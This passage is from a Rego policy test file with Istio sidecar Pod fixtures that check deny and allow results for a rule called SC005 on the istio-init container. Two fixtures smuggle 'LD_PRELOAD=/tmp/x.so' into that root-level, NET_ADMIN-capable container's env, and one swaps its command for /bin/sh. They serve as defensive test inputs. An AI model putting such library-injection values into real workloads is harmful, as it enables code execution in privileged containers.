				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_args_prefix_shifted if {
	msgs := sc005.violations with input as args_prefix_shifted_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

command_override_outside_mesh_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
		},
		"name": "command-override-outside-mesh",
		"namespace": "policygen-outside",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"command": [
					"/bin/sh",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

command_override_outside_mesh_namespaces := {
	"policygen-outside": {
		"apiVersion": "v1",
		"kind": "Namespace",
		"metadata": {
			"labels": {
				"policygen.dev/fixture": "outside",
			},
			"name": "policygen-outside",
		},
	},
}

test_allows_command_override_outside_mesh if {
	msgs := sc005.violations with input as command_override_outside_mesh_input with data.inventory.cluster.v1.Namespace as command_override_outside_mesh_namespaces
	count(msgs) == 0
}

env_not_a_list_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "env-not-a-list",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"env": "LD_PRELOAD=/tmp/x.so",
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_env_not_a_list if {
	msgs := sc005.violations with input as env_not_a_list_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

env_variable_not_a_mapping_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "env-variable-not-a-mapping",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"env": [
					"LD_PRELOAD=/tmp/x.so",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_denies_env_variable_not_a_mapping if {
	msgs := sc005.violations with input as env_variable_not_a_mapping_input
	count(msgs) > 0
	every msg in msgs {
		msg.rule == "SC005"
		msg.check in catalogued_checks
		startswith(msg.msg, concat("", [msg.rule, "/", msg.check, " "]))
	}
}

extra_env_input := {
	"apiVersion": "v1",
	"kind": "Pod",
	"metadata": {
		"annotations": {
			"inject.istio.io/templates": "sidecar",
			"sidecar.istio.io/interceptionMode": "REDIRECT",
			"sidecar.istio.io/status": "{\"initContainers\":[\"istio-init\",\"istio-validation\"],\"containers\":[\"istio-proxy\"]}",
			"traffic.sidecar.istio.io/excludeInboundPorts": "15020",
		},
		"labels": {
			"app": "shop",
			"istio.io/rev": "default",
		},
		"name": "extra-env",
		"namespace": "checkout",
	},
	"spec": {
		"containers": [
			{
				"image": "registry.example.com/shop/app:2.1.0",
				"name": "app",
				"securityContext": {
					"runAsGroup": 1000,
					"runAsNonRoot": true,
					"runAsUser": 1000,
				},
			},
			{
				"args": [
					"proxy",
					"sidecar",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "CA_ADDR",
						"value": "istiod.istio-system.svc:15012",
					},
					{
						"name": "PILOT_CERT_PROVIDER",
						"value": "istiod",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-proxy",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "1",
						"memory": "512Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsGroup": 1337,
					"runAsNonRoot": true,
					"runAsUser": 1337,
				},
				"volumeMounts": [
					{
						"mountPath": "/etc/istio/proxy",
						"name": "credential-socket",
					},
				],
			},
		],
		"initContainers": [
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"env": [
					{
						"name": "POLICYGEN_EXTRA",
						"value": "1",
					},
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-init",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [
							"NET_ADMIN",
							"NET_RAW",
						],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"runAsUser": 0,
				},
			},
			{
				"args": [
					"istio-iptables",
					"--log_output_level=default:info",
				],
				"image": "docker.io/istio/proxyv2:1.0.0@sha256:0d4d5c8e5d5e2f0f1b6a7c3e9b2a4d6f8e1c3a5b7d9f0e2c4a6b8d0f2e4c6a8b",
				"name": "istio-validation",
				"resources": {
					"limits": {
						"cpu": "2",
						"memory": "1Gi",
					},
					"requests": {
						"cpu": "100m",
						"memory": "128Mi",
					},
				},
				"securityContext": {
					"allowPrivilegeEscalation": false,
					"capabilities": {
						"add": [],
						"drop": [
							"ALL",
						],
					},
					"privileged": false,
					"readOnlyRootFilesystem": true,
					"runAsNonRoot": true,
				},
			},
		],
		"volumes": [
			{
				"emptyDir": {},
				"name": "credential-socket",
			},
		],
	},
}

test_allows_extra_env if {
	msgs := sc005.violations with input as extra_env_input
	count(msgs) == 0
}
